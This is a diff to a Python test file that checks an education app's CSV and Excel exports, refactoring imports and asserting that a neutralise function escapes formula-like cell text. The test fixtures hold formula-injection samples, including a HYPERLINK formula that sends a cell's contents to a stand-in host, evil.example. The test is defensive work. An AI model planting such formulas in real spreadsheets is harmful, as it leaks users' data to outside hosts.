@@ -4,18 +4,19 @@ import csv
 from pathlib import Path
 
 import pytest
+from insight_helpers import LINKS, tiny_class
 from openpyxl import load_workbook
-from test_planning import LINKS, tiny_class
 
-from app.export import ClassData, ExportError, PlanSettings, export_mastery, export_plans, export_report
+from app.export import ExportError, export_mastery, export_plans, export_report
 from app.export.tables import FORMULA_STARTS, Table, neutralise, write_csv, write_xlsx
+from app.insight.plans import DiagnosedClass, PlanSettings
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+86 138", "-2+3", "@SUM(A1)", "\t=1+1")
 
 
-def hostile_data() -> ClassData:
+def hostile_data() -> DiagnosedClass:
     matrix, diagnosis, success = tiny_class(names=HOSTILE[:3])
-    return ClassData("八年级(3)班", matrix, diagnosis, success, prerequisites=LINKS)
+    return DiagnosedClass("八年级(3)班", matrix, diagnosis, success, prerequisites=LINKS)
 
 
 def _text_cells_ok(values) -> None:
@@ -25,7 +26,7 @@ def _text_cells_ok(values) -> None:
 
 
 def test_neutralise_prefixes_formula_like_text_only() -> None:
-    assert neutralise('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"
+    assert neutralise('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
     assert [neutralise(v) for v in HOSTILE[1:]] == ["'+86 138", "'-2+3", "'@SUM(A1)", "'\t=1+1"]
     assert neutralise("\rX") == "'\rX"
     assert neutralise("张三") == "张三" and neutralise(-0.5) == -0.5 and neutralise(3) == 3
